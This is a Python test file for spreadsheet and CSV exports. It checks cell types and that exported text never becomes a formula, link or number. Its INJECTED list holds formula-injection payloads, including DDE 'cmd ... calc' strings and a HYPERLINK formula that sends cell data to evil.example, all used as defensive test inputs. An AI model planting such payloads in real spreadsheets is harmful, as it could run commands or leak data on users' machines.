"""What is in the file of a list: the kind of each cell, and that no text becomes a formula, a link or a number."""

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from desk.core import unreadable
from desk.core.csv_cells import neutral
from desk.core.values import Due
from desk.core.vocabulary import VOCABULARY
from desk.exports.lists import FORMATS, LIST_CODES, Column, ColumnKind, layout, list_named
from desk.exports.rows import Row, Value
from handlers.messages.block_kit.translator import Translator
from handlers.reports import spreadsheets
from handlers.reports.spreadsheets import CsvWriter, Table, WorkbookWriter

SHANGHAI = ZoneInfo("Asia/Shanghai")

INJECTED = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋86 138",
    "－1",
    "＠SUM(A1)",
    '%0A=1+1"',
    'a"\n=1+1',
    "{=1+1}",
    "http://evil.example/",
    "mailto:evil@example.com",
    "internal:Sheet1!A1",
    "external:c:\\evil.xlsx",
    "#N/A",
    "TRUE",
    "1E400",
    "00123",
    "13800138000",
    "110101199003077571",
    "_x0041_",
    "\x00\x01\x08 control",
    "𬭚😀",
    "a,b;c|d",
    "'quoted",
    "\u2003=1+1",
    "\u202f＝1+1",
    "\ufffe=1+1\uffff",
)


def table_of(*kinds: ColumnKind, language: str = "en-US") -> Table:
    columns = [Column(code=f"c{n}", zh=f"列{n}", en=f"C{n}", kind=kind) for n, kind in enumerate(kinds)]
    return Table(Translator(language), columns, SHANGHAI)


def rows_of(*lines: Sequence[Value]) -> list[Row]:
    return [Row({f"c{n}": value for n, value in enumerate(line)}, ()) for line in lines]


def workbook(path: Path, table: Table, rows: Sequence[Row]) -> Path:
    writer = WorkbookWriter(table, path / "list.xlsx", path, "list")
    writer.add(rows)
    writer.finish()
    return path / "list.xlsx"


def csv_rows(table: Table, rows: Sequence[Row], *, mark: bool = False) -> list[list[str]]:
    content = CsvWriter(table, mark=mark).add(rows)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_in_a_workbook_every_injected_text_is_text_to_each_reader(tmp_path: Path) -> None:
    file = workbook(tmp_path, table_of("text"), rows_of(*([text] for text in INJECTED)))
    with zipfile.ZipFile(file) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in parts.namelist() if "externalLink" in name or "vbaProject" in name]
    assert not re.search(r"<f[ >]|<hyperlink", sheet)
    assert len(re.findall(r't="inlineStr"', sheet)) == len(INJECTED) + 1
    read = [cell for (cell,) in CalamineWorkbook.from_path(file).get_sheet_by_index(0).to_python()[1:]]
    assert all(isinstance(cell, str) for cell in read)
    for text, cell in zip(INJECTED, openpyxl.load_workbook(file).worksheets[0]["A"][1:], strict=True):
        assert cell.data_type in ("s", "inlineStr"), text
        if "\x00" not in text and "_x" not in text:
            assert cell.value == text.strip("\ufffe\uffff").replace("\r\n", "\n").replace("\r", "\n")


def test_in_csv_no_text_begins_like_a_formula_and_numbers_stay_numbers() -> None:
    rows = rows_of(*([text, Decimal("-5.50"), -5] for text in INJECTED))
    _, *found = csv_rows(table_of("text", "money", "number"), rows)
    for text, (cell, money, number) in zip(INJECTED, found, strict=True):
        assert cell.removeprefix("'").replace("\r\n", "\n") == text.removeprefix("'").replace("\r\n", "\n")
        assert (
            not cell.lstrip()
            .lstrip("\ufeff")
            .startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
        )
        assert (money, number) == ("-5.50", "-5")


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_what_was_typed_comes_back_without_the_apostrophe(text: str) -> None:
    cell = neutral(text)
    assert cell in (text, f"'{text}")
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("language", ["en-US", "zh-CN"])
def test_each_kind_of_cell_is_what_a_spreadsheet_has_for_it(tmp_path: Path, language: str) -> None:
    kinds: list[ColumnKind] = [
        "number",
        "money",
        "rate",
        "date",
        "instant",
        "utc",
        "due",
        "due",
        "yes_no",
        "word",
        "phone",
    ]
    at = datetime(2026, 11, 25, 2, 0, 1, 234000, tzinfo=UTC)
    line: list[Value] = [
        *(7, Decimal("999999999999.99"), Decimal("4.5000"), date(2026, 2, 28), at, at, Due(date(2026, 3, 1))),
        *(Due(date(2026, 3, 1), at), True, VOCABULARY.stage("disbursed"), "+44 20 7946 0958 ext. 12"),
    ]
    table = table_of(*kinds, language=language)
    sheet = openpyxl.load_workbook(workbook(tmp_path, table, rows_of(line, [None] * len(line)))).worksheets[0]
    cells: tuple[Any, ...] = sheet[2]
    found = [cell.value for cell in cells]
    local, here = datetime(2026, 11, 25, 10, 0, 1, 234000), {"en-US": ("yes", "disbursed"), "zh-CN": ("是", "已放款")}  # noqa: DTZ001
    assert found[:4] == [7, 999999999999.99, 4.5, datetime(2026, 2, 28)]  # noqa: DTZ001
    assert abs(found[4] - local).total_seconds() < 0.001
    assert abs(found[5] - at.replace(tzinfo=None)).total_seconds() < 0.001
    assert found[6] == datetime(2026, 3, 1)  # noqa: DTZ001
    assert found[8:10] == list(here[language])
    assert "7946 0958" in found[10]
    assert [cell.is_date for cell in cells] == [
        False,
        False,
        False,
        True,
        True,
        True,
        True,
        True,
        False,
        False,
        False,
    ]
    assert [cell.value for cell in sheet[3]] == [None] * len(line)
    heading = sheet["E1"].value
    assert heading == ("C4 (Shanghai time)" if language == "en-US" else "列4（上海时间）")
    written = csv_rows(table, rows_of(line))[1]
    assert written[:8] == [
        *("7", "999999999999.99", "4.5", "2026-02-28", "2026-11-25 10:00", "2026-11-25 02:00:01.234", "2026-03-01"),
        "2026-11-25 10:00",
    ]
    assert written[10].startswith("'+44 20")


def test_days_that_excel_counts_wrong_and_texts_that_are_too_long_are_text(tmp_path: Path) -> None:
    table = table_of("date", "text")
    rows = rows_of([date(1899, 12, 31), "x" * 40_000], [date(1900, 2, 28), ""], [date(1900, 3, 1), "y"])
    sheet = openpyxl.load_workbook(workbook(tmp_path, table, rows)).worksheets[0]
    assert [cell.value for cell in sheet["A"][1:]] == ["1899-12-31", "1900-02-28", datetime(1900, 3, 1)]  # noqa: DTZ001
    assert len(sheet["B2"].value) == 32_767


def test_a_long_list_goes_on_in_another_sheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "MOST_ROWS", 2)
    book = openpyxl.load_workbook(workbook(tmp_path, table_of("number"), rows_of(*([n] for n in range(5)))))
    assert [[cell.value for cell in sheet["A"]] for sheet in book.worksheets] == [["C0", 0, 1], ["C0", 2, 3], ["C0", 4]]


def test_csv_has_the_mark_only_where_it_is_asked_for() -> None:
    table, rows = table_of("text"), rows_of(["王小明"])
    assert CsvWriter(table, mark=True).add(rows) == "\ufeffC0\r\n王小明\r\n".encode()
    writer = CsvWriter(table, mark=False)
    assert writer.add(rows) + writer.add(rows) == "C0\r\n王小明\r\n王小明\r\n".encode()


def test_what_no_key_opens_is_in_words() -> None:
    table = table_of("text", "phone", language="zh-CN")
    assert csv_rows(table, rows_of([unreadable.NAME, unreadable.PHONE]))[1] == ["姓名无法读取", "（无法读取）"]


def test_every_list_is_declared_and_named_in_both_languages() -> None:
    assert set(layout().lists) == set(LIST_CODES)
    assert FORMATS == ("xlsx", "csv", "csv_bom")
    for listed in layout().lists.values():
        for words in (listed.code, listed.zh, listed.en):
            assert list_named(words) is listed
    assert list_named("nothing of the kind") is None
    page = (Path(__file__).parents[3] / "docs" / "exports.md").read_text("utf-8")
    for listed in layout().lists.values():
        assert f"{listed.en} {listed.zh}" in page
